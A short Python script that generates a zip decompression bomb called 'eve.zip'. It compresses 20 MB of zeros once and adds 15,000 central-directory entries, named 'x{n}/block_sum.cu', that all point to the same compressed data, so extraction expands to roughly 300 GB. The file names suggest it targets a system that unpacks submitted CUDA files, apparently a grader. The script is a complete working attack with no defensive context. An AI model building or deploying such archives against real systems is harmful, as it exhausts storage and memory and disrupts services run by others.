#!/usr/bin/env python3
"""A zip whose directory names the same bytes again and again: make.py FOLDER CHECKOUT."""
import pathlib
import struct
import sys
import zlib

FOLDER = pathlib.Path(sys.argv[1])
MEGABYTES, NAMES = 20, 15_000

pack, crc = zlib.compressobj(9, zlib.DEFLATED, -15), 0
data = b""
for _ in range(MEGABYTES):
    data += pack.compress(bytes(1 << 20))
    crc = zlib.crc32(bytes(1 << 20), crc)
data += pack.flush()
sizes = struct.pack("<III", crc, len(data), MEGABYTES << 20)
local = b"PK\3\4" + struct.pack("<HHHHH", 20, 0, 8, 0, 33) + sizes + struct.pack("<HH", 1, 0) + b"a"
names = [f"x{number}/block_sum.cu".encode() for number in range(NAMES)]
directory = b"".join(
    b"PK\1\2" + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 33) + sizes +
    struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0) + name for name in names)
begin = len(local) + len(data)
end = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, NAMES, NAMES, len(directory), begin, 0)
(FOLDER / "eve.zip").write_bytes(local + data + directory + end)
